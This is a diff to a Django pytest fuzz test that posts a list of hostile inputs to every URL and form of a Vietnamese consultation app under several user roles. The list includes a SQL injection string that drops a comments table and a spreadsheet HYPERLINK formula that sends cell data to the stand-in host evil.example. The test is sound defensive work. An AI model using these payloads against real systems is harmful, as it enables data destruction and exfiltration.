@@ -23,15 +23,11 @@ from tests.documents.factories import minimal_spec
 pytestmark = pytest.mark.django_db
 
 HOSTILE = [
-    "\x00",
     "Tiêu đề\x00 có NUL\x01\x02\x1b[31m và mã thoát",
-    "x" * 25_000,  # over every limit of a single field (20,000), ~1.5 MB posted with every field
-    "\u202eRTL override\u202c và \u200bzero-width",
-    "😀👍🏽 Góp ý bằng emoji 🇻🇳",
-    "' OR 1=1; DROP TABLE consultations_comment; --",
+    "x" * 25_000,  # over every limit of a single field (20,000), ~2 MB posted with every field
+    "\u202eRTL override\u202c, \u200bzero-width, 😀👍🏽 emoji 🇻🇳 và ' OR 1=1; DROP TABLE consultations_comment; --",
     "99999999999999999999",
     "-1",
-    "0001-01-01",
     "31/12/9999",
     '=HYPERLINK("http://evil.example/?x="&A1,"x")',
 ]
@@ -152,6 +148,7 @@ def _controls_stored() -> list[str]:
     return bad
 
 
+@pytest.mark.timeout(900)
 def test_fuzz_every_url_and_form_as_each_role(world, staff, leader, mttq, village_head):
     urls = []
     for name, converters in _patterns():
@@ -163,7 +160,7 @@ def test_fuzz_every_url_and_form_as_each_role(world, staff, leader, mttq, villag
     fields = _field_names()
     failures = []
     # staff reach the most forms: every payload; the other roles the control characters (what broke PostgreSQL)
-    roles = [(staff, HOSTILE, HOSTILE[:2])] + [(u, HOSTILE[:2], []) for u in (None, village_head, mttq)]
+    roles = [(staff, HOSTILE, HOSTILE[:1])] + [(u, HOSTILE[:1], []) for u in (None, village_head, mttq)]
     for user, post_payloads, get_payloads in roles:
         client = Client(raise_request_exception=False)
         if user is not None:
